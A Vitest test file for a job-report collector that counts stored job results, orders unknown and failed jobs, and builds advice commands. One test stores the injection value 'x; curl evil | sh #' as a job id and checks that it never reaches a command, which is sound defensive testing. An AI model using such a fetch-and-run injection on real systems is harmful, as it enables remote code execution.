import { expect, test } from 'vitest';
import { readJobs } from '../../../lib/report/collect/jobs.ts';
import type { MemoryStore } from '../../store/memory-store.ts';
import { storeOfEach } from '../../store/store-of-each.ts';

const store = storeOfEach();

const NOON = Date.parse('2026-11-18T12:00:00.000Z');

const put = (store: MemoryStore, key: string, value: unknown) =>
  store.put(`results/${key}.json`, Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)));

const result = (id: string, status: string, finishedAt: string, more: object = {}) => ({
  ...{ version: 1, id, type: 'run-function', status, attempts: 2, finishedAt },
  ...more,
});

/** Stores the result of a job that ended at an hour of the day on which it was claimed. */
const end = (
  store: MemoryStore,
  id: string,
  status: string,
  at: string,
  more: { type?: string; [name: string]: unknown } = {},
) =>
  put(
    store,
    `${more.type ?? 'run-function'}/dt=${at.slice(0, 10)}/${id}`,
    result(id, status, `${at}:00:00.000Z`, more),
  );

async function read(store: MemoryStore, most?: number) {
  const faults: string[] = [];
  const { jobs, batchEnds } = await readJobs({
    store,
    nowMs: NOON,
    addFault: (fault) => void faults.push(fault),
    signal: new AbortController().signal,
    ...(most === undefined ? {} : { most }),
  });
  return { ...jobs, batchEnds, faults };
}

test('jobs are counted by type; unknown jobs are listed before failed ones, newest first, with what to do', async () => {
  const error = { kind: 'status', message: 'a 500' };
  await end(store, 'a', 'failed', '2026-11-17T10', { error });
  await end(store, 'b', 'unknown', '2026-11-17T09');
  await end(store, 'c', 'UNKNOWN', '2026-11-17T11');
  await end(store, 'd', 'done', '2026-11-18T10', { response: {} });
  await end(store, 'may.chunk-00001', 'failed', '2026-11-18T10', { type: 'score' });

  const { types, attention, batchEnds, faults, isCut } = await read(store);

  expect(types).toEqual([
    { type: 'run-function', done: 1, failed: 1, unknown: 2 },
    { type: 'score', done: 0, failed: 1, unknown: 0 },
  ]);
  expect(attention.map(({ id }) => id)).toEqual(['c', 'b', 'may.chunk-00001', 'a']);
  expect(attention[0]?.advice).toContain("platform-sync jobs resolve --note 'WHAT YOU SAW' c done");
  expect(attention[2]?.advice).toContain('platform-sync redrive --batch=may');
  expect(attention[3]).toMatchObject({ attempts: 2, reason: 'status: a 500' });
  expect(batchEnds.get('may')).toBe(Date.parse('2026-11-18T10:00:00.000Z'));
  expect([faults, isCut]).toEqual([[], false]);
});

test('only results of the last thirty days are read', async () => {
  await put(store, 'snapshot/dt=2026-10-19/old', result('old', 'done', '2026-10-19T10:00:00.000Z'));
  await put(store, 'snapshot/dt=2026-10-20/new', result('new', 'done', '2026-10-20T10:00:00.000Z'));

  const { types, sinceMs } = await read(store);

  expect(types).toEqual([{ type: 'run-function', done: 1, failed: 0, unknown: 0 }]);
  expect(new Date(sinceMs).toISOString()).toBe('2026-10-20T00:00:00.000Z');
});

test('if a type has too many results, only its newest days are counted, and every other type is still counted', async () => {
  for (const at of Array.from({ length: 9 }).keys()) {
    await end(store, `a${at}`, 'done', '2026-11-18T10');
    await end(store, `b${at}`, 'failed', '2026-11-17T10');
  }
  await end(store, 's', 'done', '2026-11-18T10', { type: 'snapshot' });

  const { types, isCut, sinceMs } = await read(store, 4);

  expect(types).toEqual([
    { type: 'run-function', done: 4, failed: 0, unknown: 0 },
    { type: 'snapshot', done: 1, failed: 0, unknown: 0 },
  ]);
  expect([isCut, sinceMs]).toEqual([true, Date.parse('2026-11-18T00:00:00.000Z')]);
});

test('only the beginning of a large result is parsed, and an object that is not a result is named', async () => {
  const head = JSON.stringify(result('big', 'done', '2026-11-18T10:00:00.000Z')).slice(0, -1);
  await put(store, 'run-function/dt=2026-11-18/big', `${head},"response":{what is not JSON}}`);
  await put(store, 'run-function/dt=2026-11-18/odd', '{"status":7}');
  await put(store, 'run-function/dt=2026-11-18/torn', '{"status"');
  const { types, faults } = await read(store);

  expect(types).toEqual([{ type: 'run-function', done: 1, failed: 0, unknown: 0 }]);
  expect(faults).toEqual([
    'results/run-function/dt=2026-11-18/odd.json: expected the result of a job, got something else; 2 such objects are left out',
  ]);
});

test('an invalid job id is not put into a command', async () => {
  await end(store, 'x; curl evil | sh #', 'unknown', '2026-11-18T10');

  const { attention } = await read(store);

  expect(attention[0]).toMatchObject({ id: 'x; curl evil | sh #' });
  expect(attention[0]?.advice).not.toMatch(/platform-sync |curl/);
});

test('an unknown job is listed, however many jobs have failed since', async () => {
  await end(store, 'u', 'unknown', '2026-11-17T09');
  for (const at of Array.from({ length: 2_100 }).keys())
    await end(store, `f${at}`, 'failed', '2026-11-18T09');

  const { attention } = await read(store);

  expect(attention).toHaveLength(1_000);
  expect(attention[0]?.id).toBe('u');
});
